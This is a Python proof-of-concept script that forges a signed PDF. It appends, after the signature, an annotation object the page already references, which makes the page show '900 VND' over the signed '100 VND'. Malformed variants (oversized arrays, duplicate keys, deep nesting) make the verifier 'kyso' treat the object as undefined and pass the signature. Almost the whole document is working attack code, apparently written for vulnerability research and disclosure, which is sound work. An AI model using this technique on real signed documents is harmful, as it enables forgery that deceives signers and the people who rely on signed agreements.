#!/usr/bin/env python3
"""An object a signed page names but no table holds, defined after the signature in a way kyso
could not read (helper 219, 2026-12-06): kyso read it as undefined and passed the signature
(TOTAL-PASSED, and the signer countersigned), while Poppler, MuPDF and PyMuPDF drew the
Square annotation it is — "900 VND" over the signed "100 VND". Written by hand (Python),
nothing of kyso's; the signature is the caller's.

    python3 defined_after.py base OUT.pdf
        a one-page document whose page's /Annots names object 50, which no table holds;
    python3 defined_after.py after SIGNED.pdf OUT.pdf VARIANT
        SIGNED with object 50 written after the signature, plainly, as a Square whose
        appearance draws "900 VND", and beside it (VARIANT) an array of 2^21 + 10 elements
        (`parts`, past kyso's limit on one object), a key given twice (`dupkey`), or arrays
        nested 70 deep (`deep`).
"""
import sys
import zlib


def xref_stream(buf, num, trailer, entries, prev=None, size=None):
    x = len(buf)
    entries = dict(entries)
    entries[num] = (1, x, 0)
    nums = sorted(entries)
    body = b"".join(t.to_bytes(1, "big") + a.to_bytes(4, "big") + b.to_bytes(4, "big")
                    for t, a, b in (entries[n] for n in nums))
    index = b" ".join(b"%d 1" % n for n in nums)
    extra = b"/Type /XRef /Size %d /W [1 4 4] /Index [%s] %s" % (size or max(nums) + 1, index, trailer)
    if prev is not None:
        extra += b" /Prev %d" % prev
    data = zlib.compress(body, 9)
    buf += (b"%d 0 obj\n<< /Length %d /Filter /FlateDecode %s >>\nstream\n" % (num, len(data), extra)
            + data + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % x)


def add(buf, offs, num, body):
    offs[num] = len(buf)
    buf += b"%d 0 obj\n" % num + body + b"\nendobj\n"


def stream(extra, data):
    return b"<< /Length %d %s >>\nstream\n" % (len(data), extra) + data + b"\nendstream"


if sys.argv[1] == "base":
    buf, offs = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    add(buf, offs, 1, b"<< /Type /Catalog /Pages 2 0 R >>")
    add(buf, offs, 2, b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>")
    add(buf, offs, 3, b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
                      b"/Resources << /Font << /F1 5 0 R >> >> /Annots [50 0 R] >>")
    add(buf, offs, 4, stream(b"", b"BT /F1 24 Tf 72 700 Td (100 VND) Tj ET"))
    add(buf, offs, 5, b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    entries = {0: (0, 0, 65535)}
    entries.update({n: (1, o, 0) for n, o in offs.items()})
    xref_stream(buf, 6, b"/Root 1 0 R", entries, size=7)
    open(sys.argv[2], "wb").write(buf)
else:
    signed = open(sys.argv[2], "rb").read()
    variant = sys.argv[4]
    buf, offs = bytearray(signed), {}
    add(buf, offs, 71, stream(b"/Type /XObject /Subtype /Form /BBox [0 0 300 100] "
                              b"/Resources << /Font << /F1 5 0 R >> >>",
                              b"1 1 1 rg 0 0 300 100 re f 0 0 0 rg BT /F1 24 Tf 10 40 Td (900 VND) Tj ET"))
    extra = {"parts": b" /Junk [" + b"0 " * ((1 << 21) + 10) + b"]",
             "dupkey": b" /Junk 1 /Junk 2",
             "deep": b" /Junk " + b"[" * 70 + b"]" * 70}[variant]
    add(buf, offs, 50, b"<< /Type /Annot /Subtype /Square /Rect [60 680 360 780] /F 4 "
                       b"/AP << /N 71 0 R >>" + extra + b" >>")
    prev = int(signed[signed.rfind(b"startxref") + 9:].split()[0])
    xref_stream(buf, 73, b"/Root 1 0 R", {n: (1, o, 0) for n, o in offs.items()}, prev=prev, size=74)
    open(sys.argv[3], "wb").write(buf)
